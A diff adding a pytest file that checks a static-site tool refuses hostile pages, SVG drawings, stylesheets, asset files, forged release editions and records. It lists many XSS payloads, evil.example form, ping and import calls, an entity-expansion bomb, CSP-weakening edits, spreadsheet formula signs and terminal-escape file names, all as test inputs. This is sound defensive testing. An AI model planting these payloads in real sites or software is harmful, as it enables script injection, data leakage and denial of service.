@@ -1,0 +1,332 @@
+"""What may stand in a site: hostile elements, drawings, stylesheets, files and editions, each refused by name."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import re
+from pathlib import Path
+
+import pytest
+from support import ROOT, copy_small, lend, run
+
+from explainer import policy
+from explainer.allowed import drawings, files, names, styles
+from explainer.allowed.scripts import FRAMES, Scripts
+from explainer.commands.reporting import report
+from explainer.exports.downloads import csv_of
+from explainer.history import made
+from explainer.history.editions import SLOT, address, paths, written
+from explainer.problems import Place, Problem, shown
+from explainer.publishing.seen import Rules, read
+
+PAGE = (
+    '<!doctype html><html lang="en"><head><meta http-equiv="Content-Security-Policy" content="default-src \'none\'; base-uri \'none\'; '
+    "form-action 'none'\"><meta charset=utf-8><title>x</title></head><body>{}</body></html>"
+)
+ELEMENTS = {
+    "srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "frame": "<iframe src=https://evil.example/></iframe>",
+    "frame within": "<iframe src=/assets/x.html></iframe>", "object": "<object data=x.svg></object>", "embed": "<embed src=x.svg>",
+    "base": "<base href=//evil.example/>", "base for links": "<base target=_top>", "form": "<form action=//evil.example><button>go</button></form>",
+    "submit": "<form><button type=submit>go</button></form>", "formaction": "<button formaction=//evil.example>go</button>",
+    "image button": "<input type=image src=x>", "hidden field": "<input type=hidden name=a>", "clobbered": "<input name=querySelectorAll>",
+    "clobbering form": "<form name=body></form>", "template": "<template><b>x</b></template>", "declared shadow": "<div><template shadowrootmode=open>x</template></div>",
+    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "math": "<math><mi href='javascript:alert(1)'>x</mi></math>",
+    "refresh": "<meta http-equiv=refresh content='0; url=../'>", "refresh spelt": "<meta http-equiv=ReFresh content='0;url=//evil.example'>",
+    "cookie": "<meta http-equiv=set-cookie content=a=b>", "named meta": "<meta name=google-site-verification content=x>",
+    "preload": "<link rel=preload href=//evil.example>", "prefetch": "<link rel='dns-prefetch' href=//evil.example>", "import": "<link rel=import href=x>",
+    "module": "<link rel=modulepreload href=x.js>", "web app": "<link rel=manifest href=x.json>", "two rels": "<link rel='alternate stylesheet' href=//evil.example/x.css>",
+    "style from elsewhere": "<link rel=stylesheet href=//evil.example/x.css>", "script": "<script>alert(1)</script>", "module script": "<script type=module>1</script>",
+    "import map": "<script type=importmap>{}</script>", "rules": "<script type=speculationrules>{}</script>", "empty type": "<script type=''>1</script>",
+    "script from elsewhere": "<script src=//evil.example/x.js></script>", "script of data": "<script src=assets/x.json></script>",
+    "script of data:": "<script src=data:text/javascript,1></script>", "handler": "<p OnClick=alert(1)>x</p>", "style": "<p style=color:red>x</p>",
+    "javascript": "<a href='java&Tab;script:alert(1)'>x</a>", "data": "<a href='data:text/html,x'>x</a>", "vbscript": "<a href=' vbscript:x'>x</a>",
+    "blob": "<a href='blob:x'>x</a>", "slashes": "<a href='\\\\evil.example'>x</a>", "ping": "<a ping=//evil.example href=x>x</a>",
+    "target": "<a target=_top href=x>x</a>", "opener": "<a rel=opener href=x>x</a>", "map": "<map><area href=javascript:1></map>", "video": "<video src=x></video>",
+    "editable": "<p contenteditable>x</p>", "custom": "<x-a>x</x-a>", "portal": "<portal src=x></portal>", "plaintext": "<plaintext>",
+    "svg script": "<svg><script>alert(1)</script></svg>", "svg script linked": "<svg><script href=x.js /></svg>", "svg foreign": "<svg><foreignObject><p>x</p></foreignObject></svg>",
+    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>", "svg set": "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
+    "svg link": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "svg use": "<svg><use href='//evil.example/x.svg#a'/></svg>",
+    "svg image": "<svg><image href='https://evil.example/x.png'/></svg>", "svg paint": "<svg><path fill='url(https://evil.example/x#a)'/></svg>",
+    "svg load": "<svg onload=alert(1)></svg>", "style element": "<style>@import '//evil.example'</style>", "marquee": "<marquee onstart=alert(1)>x</marquee>",
+    "popover elsewhere": "<p popover>x</p>", "autofocus": "<a autofocus href=x>x</a>", "null": "a\0b",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", ELEMENTS)
+def test_a_hostile_element_is_refused(name: str) -> None:
+    """What is on no list is a fault of the page; the same words in an attribute, a comment or a text box are words."""
+    rules = Rules(Scripts("mkdocs"))
+    assert read("about/index.html", PAGE.format("<p>Words.</p>").encode(), rules).faults == ()
+    assert read("about/index.html", PAGE.format(ELEMENTS[name]).encode(), rules).faults
+    words = ELEMENTS[name].replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").replace("\0", "")
+    quoted = f'<p title="{words}">{words}</p><textarea>{words}</textarea><!-- <b> -->'
+    assert read("about/index.html", PAGE.format(quoted).encode(), rules).faults == ()
+
+
+@pytest.mark.parametrize("data", [b"\xff\xfe<\0p\0", b"\xef\xbb\xbf" + PAGE.format("x").encode(), b"+ADw-script+AD4-", b"", b"\xff"])
+def test_a_page_in_another_encoding_is_refused(data: bytes) -> None:
+    """Pages are UTF-8 without a mark, and say so."""
+    assert read("about/index.html", data, Rules(Scripts("mkdocs"))).faults
+
+
+def test_only_a_moved_page_leads_on_and_within_the_site() -> None:
+    """The same line is taken on the page of an address that was renamed, and nowhere else; it never leads to another host."""
+    page = PAGE.format("").replace("<title>", '<meta http-equiv="refresh" content="0; url=../../facts/loans/"><title>')
+    rules = Rules(Scripts("mkdocs"), frozenset({"facts/old/index.html"}))
+    assert read("facts/old/index.html", page.encode(), rules).faults == ()
+    assert read("facts/new/index.html", page.encode(), rules).faults
+    for to in ("//evil.example/", "https://evil.example/", "javascript:alert(1)", "/\\evil.example", "../x' onload='1"):
+        assert read("facts/old/index.html", page.replace("../../facts/loans/", to).encode(), rules).faults, to
+
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1 1">{}</svg>'
+DRAWINGS = {
+    "script": "<script>alert(1)</script>", "script of XHTML": '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
+    "prefixed": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>', "handler": '<g onclick="alert(1)"/>',
+    "foreign": '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>', "frame": '<x:iframe xmlns:x="http://www.w3.org/1999/xhtml" src="x"/>',
+    "link": '<a xlink:href="javascript:alert(1)"><text>x</text></a>', "link with an entity": '<a href="java&#9;script:alert(1)"><text>x</text></a>',
+    "animate": '<a><animate attributeName="href" values="javascript:alert(1)"/></a>', "set": '<set attributeName="onclick" to="alert(1)"/>',
+    "use": '<use href="https://evil.example/x.svg#a"/>', "use of data": '<use href="data:image/svg+xml,x#a"/>', "image": '<image href="https://evil.example/x.png"/>',
+    "image of svg": '<image href="data:image/svg+xml;base64,AA=="/>', "filter": '<filter><feImage href="https://evil.example/x"/></filter>',
+    "style": "<style>@import url(https://evil.example/x.css);</style>", "escaped style": "<style>a{b:\\75rl(https://evil.example/)}</style>",
+    "paint": '<path fill="url(https://evil.example/#a)"/>', "style attribute": '<path style="fill:url(//evil.example/#a)"/>', "base": '<g xml:base="https://evil.example/"/>',
+    "handler element": '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>', "math": '<m:mi xmlns:m="http://www.w3.org/1998/Math/MathML" href="javascript:1"/>',
+    "events": '<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load"/>',
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", DRAWINGS)
+def test_a_hostile_drawing_is_refused(name: str) -> None:
+    """An SVG file that a browser could open by itself runs nothing and asks nobody."""
+    assert drawings.svg_faults(SVG.format(DRAWINGS[name]).encode())
+
+
+WHOLE = {
+    "stylesheet": b'<?xml-stylesheet href="x.xsl"?>' + SVG.format("").encode(), "entities": b'<!DOCTYPE svg [<!ENTITY a "x">]>' + SVG.format("").encode(),
+    "latin": b'<?xml version="1.0" encoding="iso-8859-1"?>' + SVG.format("").encode(), "wide": SVG.format("").encode("utf-16"),
+    "no namespace": b"<svg><path/></svg>", "page": b"<html xmlns='http://www.w3.org/1999/xhtml'/>", "broken": b"<svg", "nothing": b"", "bytes": bytes(range(256)),
+    "laughs": b'<!DOCTYPE svg [<!ENTITY a "' + b"x" * 999 + b'"><!ENTITY b "' + b"&a;" * 999 + b'">]>' + SVG.format("&b;").encode(),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", WHOLE)
+def test_a_drawing_of_another_kind_is_refused(name: str) -> None:
+    """Files are UTF-8, declare nothing of their own, and bring no stylesheet that runs."""
+    assert drawings.svg_faults(WHOLE[name])
+
+
+def test_drawings_of_programs_are_taken() -> None:
+    """What drawing programs save is taken, their own notes included, and so is every SVG file of ours."""
+    notes = (
+        'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"'
+    )
+    inside = (
+        '<sodipodi:namedview id="v" inkscape:zoom="1"/><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>'
+        '<defs><linearGradient id="g"><stop offset="0" style="stop-color:#000"/></linearGradient></defs><style>.a{fill:url(#g)}</style>'
+        '<path style="fill:url(#g);stroke:none" d="M0 0" inkscape:label="x"/><use xlink:href="#g"/><a href="https://example.org/"><text>x</text></a>'
+        '<image href="data:image/png;base64,AAAA"/>'
+    )
+    drawn = SVG.replace("viewBox", f"{notes} viewBox").format(inside)
+    declared = '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
+    assert drawings.svg_faults((declared + drawn).encode()) == []
+    assert drawings.svg_faults((ROOT / "templates/assets/favicon.svg").read_bytes()) == []
+
+
+CSS = (
+    "@import 'x.css';", "@IMPORT url(//evil.example)", "a{b:url(https://evil.example/x.png)}", "a{b:u\\72l(//evil.example)}", "a{b:image-set('//evil.example/x' 1x)}",
+    "a{content:'/*'}@import '//evil.example';a{content:'*/'}", "a{b:url(/*x)}@import 'y';/**/", "a{behavior:url(x)}", "a{width:expression(1)}", "a{b:url(javascript:1)}",
+    "a{b:url('data:text/html,x')}", "a{-moz-binding:none}", "a{b:url(//evil.example", "</style><script>", "a{b:'x\n}/*'*/@import 'z'",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("css", CSS)
+def test_a_hostile_stylesheet_is_refused(css: str) -> None:
+    """A stylesheet imports nothing and asks no other host for anything, however that is written."""
+    assert list(styles.faults(css))
+
+
+def test_ordinary_stylesheets_are_taken() -> None:
+    """Our own, and one with addresses in comments, in its namespace and of its own files."""
+    assert list(styles.faults((ROOT / "templates/assets/explainer.css").read_text(encoding="utf-8"))) == []
+    assert (
+        list(
+            styles.faults(
+                "/* https://x.example */ @namespace svg url(http://www.w3.org/2000/svg); a{b:url(../x.woff2);scroll-behavior:smooth}"
+            )
+        )
+        == []
+    )
+
+
+BAD_FILES = {
+    "x.HTML": b"<script>", "x.htm": b"<script>", "x.xhtml": b"", "x.Xht": b"", "x.svgz": b"", "x.xml": b"<a/>", "x.xsl": b"", "x.mhtml": b"", "x.shtml": b"",
+    "x.js": b"1", "x.MJS": b"1", "x.wasm": b"", "x.swf": b"", "x.hta": b"", "x": b"<script>", "x.php": b"", "x.html.": b"", "x.SVG": b"<svg onload='1'/>",
+    "x.json": b"alert(1)", "x.webmanifest": b"{}", "x.css": b"@import 'x'", "x.appcache": b"", "x.eml": b"", "x.unknown": b"", "x.rdf": b"<a/>", "x.ts": b"",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", BAD_FILES)
+def test_a_file_that_a_browser_could_open_is_refused(name: str) -> None:
+    """By the end of its name in letters of any case: pages, scripts, unknown kinds, and what is not what its name says."""
+    assert files.asset_faults(name, BAD_FILES[name], trusted=False)
+
+
+def test_trust_lets_scripts_through_and_nothing_else() -> None:
+    """With --trust a project's own script is published; a page beside the pages is not."""
+    assert [name for name in BAD_FILES if not files.asset_faults(name, BAD_FILES[name], trusted=True)] == ["x.js", "x.MJS"]
+
+
+def test_clashing_names() -> None:
+    """Paths that some disks take for one, and a file where another has a folder."""
+    assert list(names.clashes(["a/B.png", "a/b.png"])) == [("a/b.png", "a/B.png")]
+    assert list(names.clashes(["é.png", "e\u0301.png"])) != []
+    assert list(names.clashes(["a.js", "a.js/b.png", "c/d.png"])) == [("a.js/b.png", "a.js")]
+    assert list(names.clashes(["a/b.png", "a/c.png", "ab"])) == []
+
+
+def edition() -> tuple[Path, str]:
+    """The body of an edition of this repository's, and where it is kept."""
+    path = sorted((ROOT / "seeds" / "editions" / "legal-acts").glob("*.html"))[0]
+    return path, path.read_text(encoding="utf-8")
+
+
+def test_the_editions_of_this_repository_are_taken() -> None:
+    """Every page that was ever released here holds nothing but what our templates write."""
+    found = sorted((ROOT / "seeds" / "editions").rglob("*.html"))
+    assert len(found) > 5
+    for path in found:
+        assert list(made.faults(path.read_text(encoding="utf-8"), FRAMES)) == [], path
+
+
+FORGED = {
+    "script": ("</main>", "</main><script>alert(1)</script>"), "script in its place": ("<script>", "<script>alert(1);"),
+    "script with a type": ("<script>", "<script type=module>"), "handler": ("<main ", "<main onfocus=alert(1) "), "frame": ("</main>", "<iframe src=x></iframe></main>"),
+    "srcdoc": ("</main>", "<iframe srcdoc='<script>1</script>'></iframe></main>"), "form": ("</main>", "<form><input></form></main>"),
+    "refresh": ("<base ", "<meta http-equiv=refresh content='0;url=//evil.example'><base "), "host": ("</h1>", "</h1><img src=https://evil.example/x.png>"),
+    "link": ("</h1>", "</h1><a href=https://evil.example/>x</a>"), "base": ("<base ", "<base href=//evil.example/ "), "prefetch": ("<base ", "<link rel=prefetch href=//e.example><base "),
+    "style": ("<style>", "<style>@import '//evil.example';"), "style address": ("<style>", "<style>a{b:url(//evil.example)}"), "second style": ("</style>", "</style><style>a{}</style>"),
+    "svg script": ("<text ", "<script>alert(1)</script><text "), "svg animate": ("<text ", "<animate attributeName=href /><text "), "svg foreign": ("<text ", "<foreignObject></foreignObject><text "),
+    "policy": ("default-src &#39;none&#39;", "default-src &#39;self&#39;"), "policy inline": ("script-src ", "script-src 'unsafe-inline' "), "policy hash": ("script-src ", "script-src 'sha256-AAAA' "),
+    "policy connect": ("; base-uri", "; connect-src *; base-uri"), "no policy": ("http-equiv", "name"), "late policy": ("<head>", "<head><title>x</title>"),
+    "second policy": ("<base ", "<meta http-equiv=content-security-policy content=x><base "), "template": ("</main>", "<template>x</template></main>"),
+    "object": ("</main>", "<object data=x></object></main>"), "javascript": ("</h1>", "</h1><a href=javascript:alert(1)>x</a>"), "noscript": ("</main>", "<noscript>x</noscript></main>"),
+    "encoding": ('<meta charset="utf-8">', '<meta charset="utf-7">'), "button": ("</main>", "<button popovertarget=a>x</button></main>"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", FORGED)
+def test_a_forged_edition_is_refused(tmp_path: Path, name: str) -> None:
+    """Made by hand with the right name for its content: named with its place, and nothing is published."""
+    old, new = FORGED[name]
+    path, body = edition()
+    assert old in body
+    forged = body.replace(old, new, 1)
+    if "style" in name or "script" in name:  # the forger names in the policy what he adds
+        for tag, code in re.findall(r"<(script|style)[^>]*>(.*?)</(?:script|style)>", forged, re.DOTALL):
+            forged = forged.replace(f"{tag}-src ", f"{tag}-src {policy.of(code)} ", 1)
+    assert list(made.faults(forged, FRAMES))
+    project = copy_small(tmp_path / "project")
+    record = json.loads(path.with_suffix(".json").read_bytes()) | {"chart": "loans-by-year", "follows": None}
+    picture = path.with_suffix(".png").read_bytes()
+    data = written(record | {"picture": hashlib.sha256(picture).hexdigest()})
+    folder = project / "seeds" / "editions" / "loans-by-year"
+    folder.mkdir(parents=True)
+    at = paths("loans-by-year", address(data, forged.encode()))
+    for each, content in zip(at, (data, forged.encode(), picture), strict=True):
+        (project / each).write_bytes(content)
+    done = run("check", "--project", project, "--format", "json")
+    assert done.code == 1, done.said
+    found = [each for each in json.loads(done.stdout)["problems"] if each["rule"] == "edition-file"]
+    assert found
+    assert all(each["place"]["path"] == at[1] for each in found)
+
+
+RECORDS = [
+    {"date": "x"}, {"date": 5}, {"date": None}, {"date": "2024-03-03T00:00:00"}, {"content": {}}, {"content": None}, {"content": {"rows": [1]}}, {"follows": [1]},
+    {"follows": 1}, {"height": "x"}, {"height": 10**30}, {"heights": {"small": None}}, {"further": 1}, {"chart": 5},
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("change", RECORDS)
+def test_a_forged_record_is_refused(change: dict[str, object]) -> None:
+    """A record has the keys and the kinds of values that a release writes."""
+    record = json.loads(edition()[0].with_suffix(".json").read_bytes())
+    assert isinstance(made.record_of(written(record)), dict)
+    assert isinstance(made.record_of(written(record | change)), str)
+
+
+@pytest.mark.parametrize("data", [b"", b"[" * 100_000, b"\xff", b"[]", b"5", b"null", b'{"chart": NaN}', b"{}"])
+def test_what_is_no_record_is_refused(data: bytes) -> None:
+    """Whatever the bytes are, they are a record or a sentence on why they are none."""
+    assert isinstance(made.record_of(data), str)
+    assert SLOT in edition()[1]
+
+
+def test_what_cannot_be_seen_is_printed_as_an_escape(capsys: pytest.CaptureFixture[str]) -> None:
+    """In every format: controls, line feeds, marks of direction and bytes that are no letters; JSON gives the same text back."""
+    import sys  # noqa: PLC0415 - the stream that pytest has put there
+
+    name = "seeds/a\x1b[2J\n::error::x\u202etxt.\udcff\u200b.yaml"
+    problem = Problem(Place(name), "unread-file", f"nothing reads '{name}'", f"move {name}")
+    for style in ("text", "github", "json"):
+        report([problem], style, sys.stdout, [name])
+        out = capsys.readouterr().out
+        assert not set("\x1b\u202e\udcff\u200b\x9b") & set(out), style
+        assert not any(line.startswith("::error::x") for line in out.split("\n")), style
+    assert json.loads(out)["remarks"] == [name]
+    assert shown(name) == r"seeds/a\x1b[2J\n::error::x\u202etxt.\xff\u200b.yaml"
+    assert "\x1b" not in str(problem)
+    assert shown("Чужий – é 中") == "Чужий – é 中"
+
+
+@pytest.mark.parametrize("sign", "=+-@\t＝＋－＠﹢﹣﹦﹫−⁺₌")
+def test_no_cell_begins_as_a_formula(sign: str) -> None:
+    """Spreadsheets take the wide and small forms of these signs for the signs themselves."""
+    assert csv_of([[f"{sign}SUM(A1)"]]).strip('"\r\n').startswith("'")
+    assert csv_of([["-5", "-5..-3", "a+b"]]) == "-5,-5..-3,a+b\r\n"
+
+
+def test_a_name_that_is_no_text_is_named(tmp_path: Path) -> None:
+    """A file whose name is not UTF-8 is a problem in each folder that is read, in every format."""
+    project = copy_small(tmp_path / "project")
+    for below in ("seeds/facts", "seeds", "site_src", "site_src/assets", "templates"):
+        (project / below).mkdir(exist_ok=True)
+        (project / below).joinpath("\udcff.yaml").write_text("- x", encoding="utf-8")
+    for style in ("text", "json", "github"):
+        done = run("check", "--project", project, "--format", style)
+        assert done.code == 1, done.said
+        assert done.said.count("unread-file") >= 5, done.said
+        done.said.encode()
+
+
+def test_files_beside_the_pages(good: Path, tmp_path: Path) -> None:
+    """CNAME and its like stand at the root of the site as they are; pages named after an index at their own address; bad ones are named."""
+    project = copy_small(tmp_path / "project")
+    there = {
+        "CNAME": "loans.example.org\n",
+        ".nojekyll": "",
+        ".well-known/security.txt": "Contact: mailto:a@example.org\n",
+        "ads.txt": "x\n",
+    }
+    for name, text in there.items():
+        (project / "site_src" / name).parent.mkdir(exist_ok=True)
+        (project / "site_src" / name).write_text(text, encoding="utf-8")
+    (project / "site_src" / "price-index.md").write_text(
+        "---\ntitle: x\ndescription: x\n---\nWords, [the start](index.md).\n", encoding="utf-8"
+    )
+    about = project / "site_src" / "about.md"
+    about.write_text(about.read_text("utf-8") + "\nSee [prices](price-index.md).\n", encoding="utf-8")
+    done = run("--project", lend(good, project))
+    assert done.code == 0, done.said
+    for name, text in there.items():
+        assert (project / "site" / name).read_text(encoding="utf-8") == text
+    assert (project / "site" / "price-index" / "index.html").is_file()
+    assert not (project / "site" / "price-").exists()
+    for name, text in {"CNAME": "a\nb", ".nojekyll": "x", ".well-known/x.html": "x", ".well-known/security.txt": "\0"}.items():
+        (project / "site_src" / name).write_text(text, encoding="utf-8")
+    done = run("check", "--project", project, "--format", "json")
+    found = {each["place"]["path"] for each in json.loads(done.stdout)["problems"]}
+    assert found == {f"site_src/{name}" for name in ("CNAME", ".nojekyll", ".well-known/x.html", ".well-known/security.txt")}
+    (project / "site_src" / "robots.txt").write_text("x", encoding="utf-8")
+    assert "the site makes its own 'robots.txt'" in run("check", "--project", project).said
